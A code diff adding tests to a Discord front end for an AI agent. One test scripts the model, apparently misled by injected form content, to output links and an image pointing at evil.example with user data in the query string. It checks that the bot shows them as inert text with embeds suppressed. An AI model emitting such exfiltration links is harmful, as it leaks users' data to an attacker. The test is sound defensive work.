@@ -2,6 +2,7 @@ import { afterAll, beforeAll, expect, it } from 'vitest'
 import { submit } from '../support/deployment'
 import { startDiscord } from '../support/discord/discord'
 import type { DiscordDouble, DiscordMessage } from '../support/discord/types'
+import { SUPPRESS_EMBEDS } from '../support/discord/validate'
 import { deployAgent, type AgentDeployment } from '../support/slack-people'
 import { until } from '../support/until'
 
@@ -50,6 +51,31 @@ it('an answer is posted with its first words and edited as it grows', async () =
   expect(written.slice(1).every(write => write.startsWith('PATCH One. Two.'))).toBe(true)
   expect(written.length).toBeGreaterThan(2)
   expect(discord.requests.filter(({ path }) => path.endsWith(`/channels/${thread}/typing`))).not.toHaveLength(0)
+})
+
+it('an address that a form talked the model into is text: nothing unfurls, no label hides it, no image is fetched', async () => {
+  d.model.script({ text: ['See [the ', 'bank](https://ev', 'il.example/?d=ada) and ![', 'x](https://evil.example/p.png', '?d=ada). ', 'Also https://evil', '.example/ada'], pauseMs: 120 })
+  const thread = await mention('what does it say?')
+  await answered(thread, 'See the bank (`https://evil.example/?d=ada`) and x (`https://evil.example/p.png?d=ada`). Also `https://evil.example/ada`')
+  const sent = discord.requests.filter(({ method, path }) => ['POST', 'PATCH'].includes(method) && path.includes(`/channels/${thread}/messages`)).map(({ body }) => JSON.parse(body) as { flags?: number, content: string })
+  expect(sent.length).toBeGreaterThan(1)
+  for (const { flags = 0, content } of sent) {
+    expect(flags & SUPPRESS_EMBEDS, content).toBe(SUPPRESS_EMBEDS)
+    expect(content.replace(/`[^`]*`/g, '')).not.toMatch(/https?:|\]\(/)
+  }
+})
+
+it('help is answered without the model, with buttons that work', async () => {
+  d.model.script()
+  const thread = await mention('help')
+  const card = await question(thread)
+  expect(JSON.stringify(card.embeds)).toContain('Ask me in your own words')
+  for (const [action, answer] of [['hello', 'Hello, Ada Lovelace!'], ['info', 'You are talking to me on Discord.'], ['escalate', 'Ada Lovelace requested human support.']] as const) {
+    const button = card.components[0]!.components!.find(({ custom_id }: { custom_id?: string }) => custom_id === action)!.custom_id as string
+    expect(await discord.click(endpoint, card, button)).toMatchObject({ status: 200 })
+    await until(answer, () => JSON.stringify(said(thread)).includes(answer))
+  }
+  expect(d.model.requests).toEqual([])
 })
 
 it('an answer that is longer than a message takes several, and loses nothing', async () => {
